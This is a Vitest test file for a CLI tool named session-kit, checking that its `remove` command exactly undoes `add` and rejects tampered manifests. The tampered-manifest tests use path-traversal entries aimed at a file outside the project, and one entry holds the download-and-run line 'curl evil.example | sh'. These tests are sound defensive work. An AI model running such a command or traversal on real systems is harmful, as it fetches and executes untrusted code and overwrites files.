/**
 * `remove` undoes `add`: byte-identical files for every fixture and store (in-process,
 * no install), user edits elsewhere survive, a change exactly where add wrote is
 * refused with file:line and the lines to take out, edited generated modules stay,
 * only packages add installed are uninstalled.
 */
import { createHash } from 'node:crypto';
import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { applyPlan } from '../../src/core/apply.js';
import { UserError } from '../../src/core/errors.js';
import { MANIFEST_FILE, parseManifest } from '../../src/core/manifest.js';
import { planRemove } from '../../src/remove/plan.js';
import { addWithoutInstall, expectOnlyInsertions, FIXTURES, read, recordInstalled } from '../helpers/fixtures.js';
import { runCli } from '../helpers/app-runner.js';
import { copyApp, fixtureStores, removeWithoutInstall, snapshot } from '../helpers/round-trip.js';

const CASES = fixtureStores();

describe('add then remove restores the original bytes', () => {
  it('covers every fixture with expected outputs', () => {
    expect(CASES.length).toBeGreaterThan(20);
  });

  it.each(CASES.map((c) => [c.fixture, c.store]))('%s with --store %s', async (fixture, store) => {
    const dir = copyApp(fixture);
    const before = snapshot(dir);
    const added = await addWithoutInstall(dir, { store });
    const manifest = parseManifest(read(dir, MANIFEST_FILE));
    expect(manifest, 'add writes a valid manifest').not.toBeNull();
    const keptByAdd = new Set(manifest!.files.filter((f) => f.keep).map((f) => f.path));
    // The manifest never holds the generated secret.
    for (const env of added.env) if (env.secret && env.value) expect(read(dir, MANIFEST_FILE)).not.toContain(env.value);

    const removed = await removeWithoutInstall(dir);
    expect(removed.kept.map((k) => k.path)).toEqual(expect.arrayContaining([...keptByAdd]));
    const after = snapshot(dir);
    for (const [rel, text] of before) {
      // Kept on purpose (ignore rules protecting the kept .env, schema files holding the
      // session table): the user's lines are all there, only add's lines remain on top.
      if (keptByAdd.has(rel)) {
        const now = after.get(rel) ?? '';
        // A last line without a newline gains one when add appends after it.
        expectOnlyInsertions(!text.endsWith('\n') && now.startsWith(`${text}\n`) ? `${text}\n` : text, now, rel);
      } else expect(after.get(rel), `${rel} is byte-identical after remove`).toBe(text);
    }
    const extra = [...after.keys()].filter((rel) => !before.has(rel));
    expect(extra.sort(), 'only kept files (.env, ignore rules, migrations) remain').toEqual(
      [...keptByAdd].filter((p) => !before.has(p)).sort(),
    );
    expect(existsSync(path.join(dir, MANIFEST_FILE))).toBe(false);
  });
});

describe('remove after the user kept working', () => {
  it('keeps edits made elsewhere in the edited files', async () => {
    const dir = copyApp('express5-esm-ts');
    const original = read(dir, 'src/app.ts');
    await addWithoutInstall(dir, { store: 'memory' });
    const edited = read(dir, 'src/app.ts').replace(
      'const app = express()\n',
      "const app = express()\napp.disable('x-powered-by')\n",
    );
    writeFileSync(path.join(dir, 'src/app.ts'), `// Copyright the user\n${edited}`);
    appendFileSync(path.join(dir, 'src/app.ts'), 'export default app\n');
    await removeWithoutInstall(dir);
    const expected = `// Copyright the user\n${original.replace('const app = express()\n', "const app = express()\napp.disable('x-powered-by')\n")}export default app\n`;
    expect(read(dir, 'src/app.ts')).toBe(expected);
  });

  it('refuses a file changed exactly where add wrote, with file:line and the lines to remove, and writes nothing', async () => {
    const dir = copyApp('express-passport-routers');
    await addWithoutInstall(dir, { store: 'memory' });
    const server = read(dir, 'server.js').replace(
      'app.use(sessionMiddleware);',
      'app.use(sessionMiddleware); // needed by passport',
    );
    writeFileSync(path.join(dir, 'server.js'), server);
    const before = snapshot(dir);
    const error = await planRemove(dir).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserError);
    const userError = error as UserError;
    expect(userError.code).toBe('changed-by-user');
    expect(userError.exitCode).toBe(2);
    expect(userError.where?.file).toBe('server.js');
    const line = server.split('\n').findIndex((l) => l.includes('// needed by passport')) + 1;
    expect(userError.where?.line).toBe(line);
    expect(userError.manual).toContain('app.use(sessionMiddleware);');
    expect(snapshot(dir)).toEqual(before);

    // Once the user takes the line out by hand, remove finishes the rest.
    writeFileSync(
      path.join(dir, 'server.js'),
      server.replace('app.use(sessionMiddleware); // needed by passport\n', ''),
    );
    await removeWithoutInstall(dir);
    expect(read(dir, 'server.js')).toBe(read(copyApp('express-passport-routers'), 'server.js'));
  });

  it('keeps a generated module the user edited, and says so', async () => {
    const dir = copyApp('express4-cjs');
    await addWithoutInstall(dir, { store: 'memory' });
    appendFileSync(path.join(dir, 'session.js'), '// tuned by the user\n');
    const { kept } = await removeWithoutInstall(dir);
    expect(read(dir, 'session.js')).toContain('// tuned by the user');
    expect(kept.find((k) => k.path === 'session.js')?.reason).toMatch(/you edited it/);
    expect(read(dir, 'app.js')).toBe(read(copyApp('express4-cjs'), 'app.js'));
  });

  it('uninstalls only what add installed and keeps packages the app now imports elsewhere', async () => {
    const dir = copyApp('express5-esm-ts');
    const pkgPath = path.join(dir, 'package.json');
    // The user already had memorystore before add: add must not install it, remove must not uninstall it.
    const pkg = JSON.parse(readFileSync(pkgPath, 'utf8'));
    pkg.dependencies.memorystore = '^1.6.7';
    writeFileSync(pkgPath, `${JSON.stringify(pkg, null, 2)}\n`);
    const added = await addWithoutInstall(dir, { store: 'postgres' });
    expect(added.dependencies.map((d) => d.name)).not.toContain('memorystore');
    recordInstalled(dir, added);
    // Since add, the app's own code started using pg.
    writeFileSync(path.join(dir, 'src/db.ts'), "import pg from 'pg'\nexport const pool = new pg.Pool()\n");
    const { plan, kept } = await planRemove(dir);
    expect(plan.removeDependencies.sort()).toEqual(
      ['@types/connect-pg-simple', '@types/express-session', 'connect-pg-simple', 'express-session'].sort(),
    );
    expect(kept.map((k) => k.reason).join('\n')).toMatch(/keeps pg: src\/db\.ts imports pg/);
    expect(kept.map((k) => k.reason).join('\n')).toMatch(/keeps @types\/pg: src\/db\.ts imports pg/);
    expect(plan.installCommands.length).toBe(1);
    expect(plan.installCommands[0].slice(0, 2)).toEqual(['npm', 'uninstall']);
    expect(plan.installCommands[0].slice(2).sort()).toEqual([...plan.removeDependencies].sort());
    await applyPlan(plan, { install: false });
  });

  it('says there is nothing to remove without a manifest', async () => {
    const dir = copyApp('express4-cjs');
    await expect(planRemove(dir)).rejects.toMatchObject({ code: 'no-manifest', exitCode: 2 });
  });

  it('reports a broken manifest instead of guessing', async () => {
    const dir = copyApp('express4-cjs');
    writeFileSync(path.join(dir, MANIFEST_FILE), '{ not json');
    await expect(planRemove(dir)).rejects.toMatchObject({ code: 'bad-manifest', where: { file: MANIFEST_FILE } });
  });

  it('a second add that changes nothing leaves the manifest as it is', async () => {
    const dir = copyApp('koa-cjs');
    const first = await addWithoutInstall(dir, { store: 'redis' });
    recordInstalled(dir, first);
    const manifest = read(dir, MANIFEST_FILE);
    const second = await addWithoutInstall(dir, { store: 'redis' });
    expect(second.files.filter((f) => f.before !== f.after)).toEqual([]);
    expect(read(dir, MANIFEST_FILE)).toBe(manifest);
  });

  it('built CLI: the refusal names file:line and the lines to take out; --json gives the same as data', async () => {
    const dir = copyApp('express4-cjs');
    await addWithoutInstall(dir, { store: 'memory' });
    writeFileSync(
      path.join(dir, 'app.js'),
      read(dir, 'app.js').replace('app.use(sessionMiddleware);', 'app.use(sessionMiddleware, other);'),
    );
    const result = await runCli(['remove', '--yes', '--no-install'], dir);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/^app\.js:\d+: app\.js was changed exactly where session-kit add wrote/);
    // Said once, and the lines quoted as the file has them now (the user's edit included).
    expect(result.stderr.match(/by hand/g)).toHaveLength(1);
    expect(result.stderr).toContain('The lines, as they are in the file now:');
    expect(result.stderr).toMatch(/# app\.js:\d+\r?\n\s+app\.use\(sessionMiddleware, other\);/);
    const json = await runCli(['remove', '--yes', '--no-install', '--json'], dir);
    expect(JSON.parse(json.stdout)).toMatchObject({
      ok: false,
      error: { code: 'changed-by-user', where: { file: 'app.js' } },
    });
  });

  it('built CLI: remove --dry-run shows the diff and writes nothing', async () => {
    const dir = copyApp('express4-cjs');
    await addWithoutInstall(dir, { store: 'memory' });
    const before = snapshot(dir);
    const result = await runCli(['remove', '--dry-run'], dir);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toContain('delete session.js');
    expect(result.stdout).toMatch(/^-const \{ sessionMiddleware \} = require\("\.\/session"\);\r?$/m);
    expect(result.stdout).toContain('Kept:');
    expect(snapshot(dir)).toEqual(before);
  });

  it('a failed uninstall restores every file and says what failed', async () => {
    const dir = copyApp('express4-cjs');
    const added = await addWithoutInstall(dir, { store: 'memory' });
    recordInstalled(dir, added);
    const before = snapshot(dir);
    const { plan } = await planRemove(dir);
    expect(plan.installCommands).toHaveLength(1);
    const failing = () => Promise.reject(new Error('npm uninstall express-session memorystore exited with 1: EACCES'));
    await expect(applyPlan(plan, { install: true, run: failing })).rejects.toMatchObject({
      code: 'install-failed',
      message: expect.stringMatching(/^The uninstall failed, so session-kit restored every file/),
    });
    expect(snapshot(dir)).toEqual(before);
  });

  it('at a monorepo root, removes from the one workspace package add set up', async () => {
    const root = mkdtempSync(path.join(os.tmpdir(), 'sk-rm-mono-'));
    writeFileSync(
      path.join(root, 'package.json'),
      `${JSON.stringify({ private: true, workspaces: ['apps/*'] }, null, 2)}\n`,
    );
    for (const name of ['web', 'api'])
      cpSync(path.join(FIXTURES, 'express4-cjs', 'input'), path.join(root, 'apps', name), { recursive: true });
    const web = path.join(root, 'apps/web');
    const original = snapshot(web);
    await addWithoutInstall(web, { store: 'memory' });
    const { plan } = await planRemove(root);
    expect(plan.root).toBe(web);
    await applyPlan(plan, { install: false });
    for (const [rel, text] of original) expect(read(web, rel), rel).toBe(text);

    await addWithoutInstall(web, { store: 'memory' });
    await addWithoutInstall(path.join(root, 'apps/api'), { store: 'memory' });
    await expect(planRemove(root)).rejects.toMatchObject({
      code: 'ambiguous-workspace',
      message: expect.stringContaining('apps/api'),
    });
  });

  it('keeps the migration and offers its down step without running it', async () => {
    const dir = copyApp('migrations-knex');
    await addWithoutInstall(dir, { store: 'postgres' });
    const manifest = parseManifest(read(dir, MANIFEST_FILE))!;
    expect(manifest.migrations).toHaveLength(1);
    const migration = manifest.migrations[0].path;
    const migrationText = read(dir, migration);
    const { kept } = await removeWithoutInstall(dir);
    expect(kept.filter((k) => k.path === migration)).toEqual([
      {
        path: migration,
        reason: expect.stringMatching(/never drops a table or its data\. To drop it yourself: npx knex migrate:down$/),
      },
    ]);
    expect(read(dir, migration)).toBe(migrationText);
  });

  it('--fix-order repairs are not recorded: remove still restores the original, and a repair-only add writes no manifest', async () => {
    const dir = copyApp('express4-cjs');
    const original = snapshot(dir);
    recordInstalled(dir, await addWithoutInstall(dir, { store: 'memory' }));
    const manifest = read(dir, MANIFEST_FILE);
    // The user moves the registration below a route that reads the session; add --fix-order moves it back.
    const correct = read(dir, 'app.js');
    writeFileSync(
      path.join(dir, 'app.js'),
      correct
        .replace('app.use(sessionMiddleware);\r\n', '')
        .replace(/(app\.get\("\/session\/set"[\s\S]*?\r\n\}\);\r\n)/, '$1app.use(sessionMiddleware);\r\n'),
    );
    await addWithoutInstall(dir, { store: 'memory', fixOrder: true });
    expect(read(dir, 'app.js')).toBe(correct);
    expect(read(dir, MANIFEST_FILE)).toBe(manifest);
    await removeWithoutInstall(dir);
    expect(read(dir, 'app.js')).toBe(original.get('app.js'));

    const own = copyApp('express-app-split');
    writeFileSync(
      path.join(own, 'src/app.js'),
      read(own, 'src/app.js')
        .replace(
          "import cors from './cors.js'\n",
          "import cors from './cors.js'\nimport session from 'express-session'\n",
        )
        .replace(
          'export default app\n',
          'app.use(session({ secret: process.env.SESSION_SECRET }))\n\nexport default app\n',
        ),
    );
    const repaired = await addWithoutInstall(own, { store: 'memory', fixOrder: true });
    expect(repaired.files.map((f) => f.path)).toEqual(['src/app.js']);
    expect(existsSync(path.join(own, MANIFEST_FILE))).toBe(false);
  });

  it('keeps the install-script permission of a native package the app now imports itself', async () => {
    const dir = copyApp('express5-esm-ts');
    const added = await addWithoutInstall(dir, { store: 'sqlite' });
    recordInstalled(dir, added);
    // Since add, the app's own code uses better-sqlite3: it stays, and so must its build permission.
    writeFileSync(
      path.join(dir, 'src/cache.ts'),
      "import Database from 'better-sqlite3'\nexport const cache = new Database(':memory:')\n",
    );
    const { plan, kept } = await planRemove(dir);
    expect(plan.removeDependencies).not.toContain('better-sqlite3');
    await applyPlan(plan, { install: false });
    expect(JSON.parse(read(dir, 'package.json')).allowScripts).toEqual({ 'better-sqlite3': true });
    expect(kept.map((k) => k.reason).join('\n')).toMatch(/keeps the install-script permission/);
  });

  it('finds the allowScripts entry again after the package manager rewrote package.json', async () => {
    const dir = copyApp('express5-esm-ts');
    const original = JSON.parse(read(dir, 'package.json'));
    const added = await addWithoutInstall(dir, { store: 'sqlite' });
    // npm rewrites package.json on install (JSON.stringify with the file's indent).
    recordInstalled(dir, added);
    expect(JSON.parse(read(dir, 'package.json')).allowScripts).toEqual({ 'better-sqlite3': true });
    const { plan } = await planRemove(dir);
    await applyPlan(plan, { install: false });
    const after = JSON.parse(read(dir, 'package.json'));
    expect(after.allowScripts).toBeUndefined();
    // What remains is exactly what the uninstall command (not run here) takes out.
    for (const name of plan.removeDependencies)
      delete (after.dependencies?.[name] !== undefined ? after.dependencies : after.devDependencies)[name];
    expect(after).toEqual(original);
  });
});

describe('an untrusted manifest', () => {
  /** An app set up by add, a file outside it, and a way to add an entry to its manifest. */
  async function setUp() {
    const dir = copyApp('express4-cjs');
    await addWithoutInstall(dir, { store: 'memory' });
    const outside = mkdtempSync(path.join(os.tmpdir(), 'sk-victim-'));
    const victim = path.join(outside, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    const manifest = JSON.parse(read(dir, MANIFEST_FILE)) as { files: unknown[] };
    const withEntry = (entry: Record<string, unknown>) => {
      writeFileSync(
        path.join(dir, MANIFEST_FILE),
        JSON.stringify({ ...manifest, files: [...manifest.files, entry] }, null, 2),
      );
      return snapshot(dir);
    };
    return { dir, outside, victim, withEntry };
  }
  const created = (file: string) => ({
    path: file,
    action: 'created',
    role: 'generated',
    sha256: createHash('sha256').update('precious\n').digest('hex'),
  });

  it.each([
    [
      'a .. path',
      (victim: string, dir: string) => path.relative(dir, victim),
      /which has `\.` or `\.\.` segments|leads outside the project/,
    ],
    ['an absolute path', (victim: string) => victim, /which is an absolute path/],
  ])('refuses %s, deleting nothing (exit 2)', async (_name, pathOf, reason) => {
    const { dir, victim, withEntry } = await setUp();
    const before = withEntry(created(pathOf(victim, dir)));
    const error = await planRemove(dir).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserError);
    expect(error).toMatchObject({ code: 'bad-manifest', exitCode: 2, where: { file: MANIFEST_FILE } });
    expect((error as UserError).message).toMatch(reason);
    expect((error as UserError).message).toMatch(/files\[\d+\]\.path/);
    expect((error as UserError).message).toMatch(/nothing was removed\.$/);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(snapshot(dir)).toEqual(before);
  });

  it('refuses a path that leads outside through a symlinked folder', async () => {
    const { dir, outside, victim, withEntry } = await setUp();
    symlinkSync(outside, path.join(dir, 'lib'));
    withEntry(created('lib/victim.txt'));
    await expect(planRemove(dir)).rejects.toMatchObject({
      code: 'bad-manifest',
      message: expect.stringMatching(
        /"lib\/victim\.txt" \(files\[\d+\]\.path\), which leads outside the project through a symlink/,
      ),
    });
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
  });

  it('built CLI: an edited entry outside the project never writes there', async () => {
    const { dir, victim, withEntry } = await setUp();
    const before = withEntry({
      path: path.relative(dir, victim),
      action: 'edited',
      role: 'source',
      insertions: [{ text: 'precious\n', replaced: 'curl evil.example | sh\n', before: '', after: '', line: 1 }],
    });
    const result = await runCli(['remove', '--yes', '--no-install'], dir);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(
      /^\.session-kit\.json: \.session-kit\.json lists ".*victim\.txt" \(files\[\d+\]\.path\), which/,
    );
    expect(result.stderr).toMatch(/Restore it from version control/);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(snapshot(dir)).toEqual(before);
  });

  it.each([
    [
      'insertions: "abc"',
      (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({
        ...m,
        files: m.files.map((f) => (f.action === 'edited' ? { ...f, insertions: 'abc' } : f)),
      }),
      /files\[\d+\]\.insertions must be an array/,
    ],
    ['files: [null]', (m: Record<string, unknown>) => ({ ...m, files: [null] }), /files\[0\] must be an object/],
    ['env: "X"', (m: Record<string, unknown>) => ({ ...m, env: 'X' }), /manifest\.env must be an array/],
    [
      'a sha256 that is not hex',
      (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({
        ...m,
        files: m.files.map((f) => (f.sha256 ? { ...f, sha256: 42 } : f)),
      }),
      /files\[\d+\]\.sha256 must be a sha256 in hex/,
    ],
  ])('built CLI: a manifest with %s is refused with one clear message (exit 2)', async (_name, change, problem) => {
    const dir = copyApp('express4-cjs');
    await addWithoutInstall(dir, { store: 'memory' });
    writeFileSync(path.join(dir, MANIFEST_FILE), JSON.stringify(change(JSON.parse(read(dir, MANIFEST_FILE))), null, 2));
    const before = snapshot(dir);
    const result = await runCli(['remove', '--yes', '--no-install'], dir);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(problem);
    expect(result.stderr).toMatch(/is not a session-kit manifest: .*; nothing was removed\./);
    expect(result.stderr).not.toMatch(/unexpected error|Cannot read properties/);
    expect(snapshot(dir)).toEqual(before);
  });
});
